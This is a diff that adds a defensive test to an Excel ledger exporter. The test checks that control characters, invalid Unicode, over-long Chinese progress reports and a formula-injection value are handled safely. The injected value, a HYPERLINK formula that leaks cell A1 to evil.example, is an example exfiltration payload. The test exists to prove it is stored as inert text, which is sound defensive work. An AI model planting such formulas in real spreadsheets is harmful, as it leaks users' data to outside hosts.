@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator, Sequence
 from copy import copy
+from dataclasses import replace
 from datetime import date, datetime
 from io import BytesIO
 from itertools import pairwise
@@ -324,3 +325,46 @@ def test_styles_of_each_kind_of_row(ledger: Worksheet) -> None:
     assert ledger.page_setup.fitToHeight == 0
     assert (ledger.page_margins.left, ledger.page_margins.top) == (0.4, 0.5)
     assert ledger.print_options.horizontalCentered
+
+
+def test_hostile_text_neither_breaks_the_ledger_nor_runs(tmp_path: Path) -> None:
+    """A vertical tab or NUL from a pasted sheet, U+FFFE/U+FFFF in a report, a formula in a
+    task's text, and a 最新进展 over Excel's cell limit (issue 19, findings 5 and 6)."""
+    rows = rows_from_seed()[:3]
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+    long_report = ReportInfo(
+        id=999,
+        task_id=rows[1].no,
+        unit_id=2,
+        unit="工信局",
+        cycle_key="2026-03",
+        text="进展" * 20_000 + "完",
+        created_at=datetime(2026, 3, 21, 9, tzinfo=SH),
+    )
+    rows[0] = replace(rows[0], text="第一行\x0b第二行\x00", lead=(formula,))
+    rows[1] = replace(
+        rows[1],
+        latest=(
+            ("发改局", replace(long_report, unit="发改局", text="坏\ufffe字\uffff")),
+            ("工信局", long_report),
+        ),
+    )
+    data = build_ledger(rows, year=2026, as_of=date(2026, 3, 27), tz=SH)
+    path = tmp_path / "ledger.xlsx"
+    path.write_bytes(data)
+    book = load_workbook(path)  # opens: nothing illegal in the XML
+    ws = book["督查台账"]
+    first = next(r for r in ws.iter_rows() if r[0].value == rows[0].no)
+    assert first[1].value == "第一行\n第二行"
+    assert first[2].value == formula and first[2].data_type == "s"  # text, not a formula
+    second = next(r for r in ws.iter_rows() if r[0].value == rows[1].no)
+    latest = second[5].value
+    assert isinstance(latest, str) and len(latest) <= 32_767
+    assert latest.endswith(texts.ledger_continued(rows[1].no)) and "坏字" in latest
+    more = book[texts.LEDGER_CONTINUATION_SHEET]
+    continued = [r for r in more.iter_rows(min_row=2, values_only=True) if r[0] == rows[1].no]
+    assert continued and continued[0][1] == "最新进展"
+    whole = latest.removesuffix(texts.ledger_continued(rows[1].no)) + "".join(
+        str(r[3]).removesuffix(texts.ledger_continued(rows[1].no)) for r in continued
+    )
+    assert whole.endswith("完") and whole.count("进展") == 20_000  # nothing cut
